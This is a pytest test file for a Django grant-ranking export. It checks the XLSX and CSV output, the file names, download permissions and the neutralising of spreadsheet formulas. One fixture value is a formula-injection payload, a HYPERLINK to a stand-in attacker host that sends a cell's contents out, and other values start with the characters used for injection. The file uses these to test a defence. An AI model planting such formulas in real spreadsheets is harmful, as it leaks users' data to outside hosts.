"""The ranked list as XLSX and CSV: content read back, file names, formula injection, who may download."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kuntadigi import clock
from kuntadigi.decisions.exports import neutralise
from kuntadigi.decisions.models import Proposal
from tests import factories
from tests.integration import ranking_support as data

D = Decimal
HEADERS = [
    "Rank",
    "Reference",
    "Project",
    "Lead applicant",
    "Partners",
    "Weighted score",
    "Assessors disagree",
    "Grant applied for (EUR)",
    "Proposed amount (EUR)",
    "Funded within the line",
    "Running total (EUR)",
]
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _interface_texts_untranslated(settings):
    settings.LOCALE_PATHS = []


@pytest.fixture
def ranked(db):
    clock.set_now(factories.CLOSES_2020 + (factories.CLOSES_2020 - factories.OPENS_2020) / 10)
    call = factories.call(appropriation=D("30000.00"))
    preparer = data.role(call, "preparer")
    assessor, assessor2 = data.role(call, "assessor"), data.role(call, "assessor")
    porvoo = factories.municipality("Porvoo", name_sv="Borgå")
    loviisa = factories.municipality("Loviisa", name_sv="Lovisa")
    askola = factories.municipality("Askola")
    first = data.application(call, requested="20000.00", project="Avoin kunta, yhdessä", lead=porvoo, partners=[loviisa, askola])
    second = data.application(call, requested="15000.00", project=INJECTION, lead=factories.municipality("@Kunta"))
    third = data.application(call, requested="10000.00", project="+358 palvelu\tja -laskenta")
    data.score(first, assessor, 5)
    data.score(first, assessor2, [5, 4, 5])
    data.score(second, assessor, 5)
    data.score(second, assessor2, 1)  # disagreement
    data.score(third, assessor, 2)
    Proposal.objects.create(application=first, amount=D("18000.00"), reason="Osin.", proposed_by=preparer)
    return call, preparer, (first, second, third)


def test_xlsx_reads_back_with_the_ranked_rows(client, ranked):
    call, preparer, (first, second, third) = ranked
    client.force_login(preparer)

    response = client.get(reverse("decisions:ranking_xlsx", args=[call.slug]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="digi-2020-ranking.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    assert values[1][:5] == [1, first.reference, "Avoin kunta, yhdessä", "Porvoo", "Loviisa, Askola"]
    # (5·40 + 4.5·40 + 5·20) / 100 = 4.8
    assert values[1][5] == pytest.approx(4.8)
    assert values[1][6:] == ["no", pytest.approx(20000), pytest.approx(18000), "yes", pytest.approx(18000)]
    assert values[2][1] == second.reference
    assert values[2][6] == "yes"  # the assessors disagree
    assert values[2][8] is None  # not proposed
    assert values[2][9:] == ["no", pytest.approx(18000)]  # 18 000 + 15 000 would exceed 30 000: skipped
    assert values[3][1] == third.reference
    assert values[3][9:] == ["yes", pytest.approx(28000)]  # the smaller one after it fits
    assert len(values) == 4


def test_xlsx_neutralises_formulas(client, ranked):
    call, preparer, _ = ranked
    client.force_login(preparer)

    content = client.get(reverse("decisions:ranking_xlsx", args=[call.slug])).content

    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + INJECTION in texts
    assert "'@Kunta" in texts
    assert "'+358 palvelu\tja -laskenta" in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)


def test_csv_reads_back_with_a_bom_and_the_ranked_rows(client, ranked):
    call, preparer, (first, second, third) = ranked
    client.force_login(preparer)

    response = client.get(reverse("decisions:ranking_csv", args=[call.slug]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="digi-2020-ranking.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    assert [row[1] for row in rows[1:]] == [first.reference, second.reference, third.reference]
    assert rows[1][2] == "Avoin kunta, yhdessä"  # the comma is quoted, not a new column
    assert rows[1][5:] == ["4.80", "no", "20000.00", "18000.00", "yes", "18000.00"]
    assert rows[2][6] == "yes"
    assert rows[2][8] == ""
    assert rows[2][9:] == ["no", "18000.00"]
    assert rows[3][9:] == ["yes", "28000.00"]


def test_csv_neutralises_formulas(client, ranked):
    call, preparer, _ = ranked
    client.force_login(preparer)

    rows = list(csv.reader(io.StringIO(client.get(reverse("decisions:ranking_csv", args=[call.slug])).content.decode("utf-8-sig"))))

    projects = [row[2] for row in rows[1:]]
    assert "'" + INJECTION in projects
    assert "'+358 palvelu\tja -laskenta" in projects
    assert "'@Kunta" in [row[3] for row in rows[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Porvoo", "1 000", "", None, D("-1"), 5])
def test_neutralise_leaves_other_values(value):
    assert neutralise(value) == value


def test_exports_are_only_for_the_calls_roles(client, ranked):
    call, _, _ = ranked
    for person in (factories.user(official=True), data.role(call, "assessor")):
        client.force_login(person)
        assert client.get(reverse("decisions:ranking_xlsx", args=[call.slug])).status_code == 404
        assert client.get(reverse("decisions:ranking_csv", args=[call.slug])).status_code == 404
    client.logout()
    assert client.get(reverse("decisions:ranking_csv", args=[call.slug])).status_code == 302
    client.force_login(data.role(call, "decision_maker"))
    assert client.get(reverse("decisions:ranking_csv", args=[call.slug])).status_code == 200
